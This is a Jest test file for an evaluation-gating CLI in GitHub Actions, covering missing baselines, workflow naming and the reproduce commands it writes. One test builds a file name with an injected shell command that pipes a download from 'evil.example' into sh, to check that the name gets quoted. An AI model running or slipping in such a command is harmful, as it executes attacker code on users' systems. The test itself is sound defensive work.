import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
import { openWorld, type GatedWorld } from '../support/gated-world.ts';
import { toJsonLines } from '../support/run-cli.ts';

// A baseline that nobody can find or fetch is no missing one: what would be red must not be green.

const suite = (name: string, gates = '{ baseline: { wait_minutes: 0 } }'): string => `suite: ${name}
datasets: [{ path: ../datasets/d.jsonl, version: "1" }]
target: { module: ../../bot.mjs, deterministic: true }
scorers: [{ name: correctness, type: contains, value: "{{reference}}" }]
gates: ${gates}
`;
const CASES = toJsonLines(
  Array.from({ length: 12 }, (_, index) => ({
    id: `q${index}`,
    input: `q${index}`,
    reference: `q${index}`,
    ...(index === 0 && { tags: ['critical'] }),
  })),
);
const GOOD = 'export default (input) => `You said ${input}`;\n';
const REGRESSED = "export default (input) => (input === 'q0' ? 'You said q0' : 'no');\n";
const FLOOR = { config: 'evals/configs/floor.yaml' };
const LOOKUPS = /\/actions\/(?:runs|artifacts|workflows)/;

let world: GatedWorld;
const commentOf = (number: number): string =>
  world.github.state.comments.findLast(({ issue }) => issue === number)?.body ?? '';

beforeAll(async () => {
  world = await openWorld({ posts: 'when needed' });
  const files = await world.pinned(
    {
      'bot.mjs': GOOD,
      '.github/workflows/evals.yml': 'name: evals\n',
      'evals/configs/pr.yaml': suite('echo'),
      'evals/configs/strict.yaml': suite('strict', '{ on_missing_baseline: fail }'),
      [FLOOR.config]: suite('floor', '{ metrics: { pass_rate: { min: 0.01 } } }'),
      'evals/datasets/d.jsonl': CASES,
    },
    ['evals/configs/pr.yaml', 'evals/configs/strict.yaml', FLOOR.config],
  );
  await world.push(files);
});
afterAll(() => world.close());
afterEach(() => world.github.clearFaults());

describe('a regression, and the baseline cannot be had', () => {
  // what comes and goes is asked for again for long: of a download find-baseline.test.ts tries it
  test.each<[string, RegExp, number]>([
    ['the lookup fails', LOOKUPS, 502],
    ['its download is refused', /\/artifacts\/\d+\/zip/, 403],
  ])(
    '%s: an error with cause, cure and annotation, and a re-run decides',
    async (_, path, answer) => {
      world.github.fail({ path }, { answer, times: 500 });
      const number = answer;
      const result = await world.pullRequest(number, { 'bot.mjs': REGRESSED });
      expect(result).toMatchObject({ exitCode: 2, outputs: { verdict: 'error' } });
      expect(commentOf(number)).toContain(`${answer}`);
      expect(commentOf(number)).toContain('baseline-unread');
      expect(result.annotations.at(-1)).toMatchObject({
        type: 'error',
        message: expect.stringContaining('docs/when-it-breaks.md#baseline-unread'),
      });
      world.github.clearFaults();
      const again = await world.rerun(number, { attempt: 2 });
      expect(again).toMatchObject({ exitCode: 1, outputs: { verdict: 'fail' } });
    },
  );

  test('critical cases that fail are still a failure, and floors need no baseline', async () => {
    world.github.fail({ path: LOOKUPS }, { answer: 403, times: 500 });
    const broken = await world.pullRequest(3, { 'bot.mjs': "export default () => 'no';\n" });
    expect(broken).toMatchObject({ exitCode: 1, outputs: { verdict: 'fail' } });
    const floor = await world.pullRequest(4, { 'bot.mjs': REGRESSED }, { inputs: FLOOR });
    expect(floor).toMatchObject({ exitCode: 0, outputs: { verdict: 'pass' } });
  });

  test('`on_missing_baseline: fail` does not make a failure of quality of it', async () => {
    world.github.fail({ path: LOOKUPS }, { answer: 403, times: 500 });
    const inputs = { config: 'evals/configs/strict.yaml' };
    const result = await world.pullRequest(5, { 'notes.md': 'x' }, { inputs });
    expect(result).toMatchObject({ exitCode: 2, outputs: { verdict: 'error' } });
  });
});

describe('the workflow that records', () => {
  const ELSEWHERE = {
    GITHUB_WORKFLOW_REF: 'octo-org/policies/.github/workflows/gate.yml@refs/heads/main',
  };

  test('one that is not there is an error that lists those that are', async () => {
    const inputs = { 'baseline-workflow': 'nonsuch.yml' };
    const result = await world.pullRequest(6, { 'bot.mjs': REGRESSED }, { inputs });
    expect(result).toMatchObject({ exitCode: 2, outputs: { verdict: 'error' } });
    expect(result.log).toContain('this repository has no .github/workflows/nonsuch.yml');
    expect(result.log).toContain('write one of evals.yml');
  });

  test('one that comes with the change is none yet', async () => {
    const inputs = { 'baseline-workflow': 'new.yml' };
    const files = { '.github/workflows/new.yml': 'name: new\n' };
    const result = await world.pullRequest(7, files, { inputs });
    expect(result).toMatchObject({ exitCode: 0, outputs: { verdict: 'pass' } });
    expect(commentOf(7)).toContain('no baseline');
  });

  test('of a workflow that another repository requires nobody knows which, unless it is said', async () => {
    const change = { 'bot.mjs': REGRESSED };
    const result = await world.pullRequest(8, change, { env: ELSEWHERE });
    expect(result).toMatchObject({ exitCode: 2, outputs: { verdict: 'error' } });
    expect(result.log).toContain('set `baseline-workflow`'.replaceAll('`', ''));
    const inputs = { 'baseline-workflow': 'evals.yml' };
    const named = await world.pullRequest(9, change, { env: ELSEWHERE, inputs });
    expect(named).toMatchObject({ exitCode: 1, outputs: { verdict: 'fail' } });
  });
});

describe('how to reproduce it', () => {
  test('the baseline lands in the folder of runs, by its run’s number', async () => {
    const result = await world.pullRequest(10, { 'bot.mjs': REGRESSED });
    expect(result.summary).toMatch(
      /gh run download (\d+) -n touchstone-echo -D evals\/runs\/baseline-\1; touchstone run evals\/configs\/pr\.yaml --base [0-9a-f]{40} --baseline evals\/runs\/baseline-\1\n/,
    );
  });

  test('the name of a file is no command', async () => {
    const evil = 'evals/configs/pr;curl -s evil.example|sh;#.yaml';
    const result = await world.pullRequest(
      11,
      { 'evals/configs/pr.yaml': null, [evil]: suite('echo') },
      { inputs: { config: 'evals/configs/p*.yaml' } },
    );
    expect(result.summary).toContain(`touchstone run '${evil}' --base`);
    expect(result.summary).not.toMatch(/run evals\/configs\/pr;/);
  });
});
